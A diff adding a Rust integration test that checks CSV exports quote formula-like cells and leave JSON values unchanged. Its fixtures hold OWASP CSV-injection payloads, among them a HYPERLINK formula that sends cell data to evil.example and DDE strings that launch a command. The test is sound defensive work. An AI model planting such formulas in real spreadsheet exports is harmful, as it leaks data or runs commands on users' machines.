@@ -721,3 +721,122 @@ async fn permissions_tenancy_preview_conflict_and_idempotency() {
     assert_eq!(csv.text.lines().count(), 11);
     env.finish().await;
 }
+
+/// Parses a CSV body into rows of cells (RFC 4180).
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.expect("csv record").iter().map(str::to_owned).collect())
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_exports_are_spreadsheet_safe_and_json_is_unchanged() {
+    let env = crate::env("csv_safe").await;
+    let db = &env.db;
+    let w = World::new(db, "Spreadsheet Agency").await;
+    // Hostile names (OWASP's CSV injection examples) and ordinary ones.
+    let hostile = [
+        (
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+            "Smith",
+        ),
+        ("=cmd|' /C calc'!A0", "+SUM(1+1)"),
+        ("-2+3+cmd|' /C calc'!A0", "@SUM(A1)"),
+        ("\t=1+1", "\r=1+1"),
+        ("-5", "O'Brien"),
+        ("Maria", "Garcia"),
+    ];
+    let mut ids = Vec::new();
+    for (first, last) in hostile {
+        ids.push(
+            insert(
+                db,
+                "individuals",
+                &json!({"agency_id": w.agency, "first_name": first, "last_name": last,
+                        "status": "=Active", "state": "TX"}),
+            )
+            .await,
+        );
+    }
+    let api = env.start(1).await.expect("start");
+    let t = w.token();
+
+    // search.csv: every cell that begins with = + - @ tab or CR starts with a quote; the
+    // rest of the text is all there; plain numbers (ids, "-5") are left as they are.
+    let r = api
+        .post("/v1/individuals/search.csv", &t, &json!({"filter": {}}))
+        .await
+        .expect("csv");
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
+    let rows = csv_rows(&r.text);
+    assert_eq!(rows.len(), 1 + hostile.len());
+    for (row, ((first, last), id)) in rows[1..].iter().zip(hostile.iter().zip(&ids)) {
+        let safe = |s: &str| {
+            if s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err() {
+                format!("'{s}")
+            } else {
+                s.to_owned()
+            }
+        };
+        assert_eq!(row[0], id.to_string());
+        assert_eq!(row[1], safe(first), "{row:?}");
+        assert_eq!(row[2], safe(last), "{row:?}");
+        assert_eq!(row[3], "'=Active");
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                "unsafe cell {cell:?} in {row:?}"
+            );
+        }
+    }
+    assert_eq!(rows[5][1], "-5", "a plain number is not text");
+    assert_eq!(rows[2][1], "'=cmd|' /C calc'!A0");
+
+    // JSON answers carry the stored values unchanged.
+    let r = api
+        .post("/v1/individuals/search", &t, &json!({"filter": {}}))
+        .await
+        .expect("search");
+    let items = r.json["items"].as_array().expect("items");
+    for (item, (first, last)) in items.iter().zip(hostile) {
+        assert_eq!(item["first_name"], first);
+        assert_eq!(item["last_name"], last);
+        assert_eq!(item["status"], "=Active");
+    }
+
+    // items.csv and the CLI's CSV go through the same rule (their cells are ids, statuses
+    // and reasons: nothing to quote, and numbers stay numbers).
+    let batch = api
+        .bulk_create(&t, &json!({"filter": {}, "record_type_id": w.record_type}))
+        .await
+        .expect("create");
+    api.wait_completed(&t, batch, Duration::from_secs(120))
+        .await
+        .expect("completed");
+    let r = api
+        .get(&format!("/v1/batches/{batch}/items.csv"), &t)
+        .await
+        .expect("items.csv");
+    let rows = csv_rows(&r.text);
+    assert_eq!(
+        rows[0],
+        ["seq", "target_id", "status", "result_id", "reason"]
+    );
+    assert_eq!(rows.len(), 1 + hostile.len());
+    assert!(
+        rows[1..]
+            .iter()
+            .all(|r| r[2] == "created" && !r[3].is_empty())
+    );
+    let (ok, out, err) = env
+        .cli(&["batch", "items", &batch.to_string(), "--csv"])
+        .await
+        .expect("cli");
+    assert!(ok.success(), "{err}");
+    assert_eq!(csv_rows(&out), rows);
+    env.finish().await;
+}
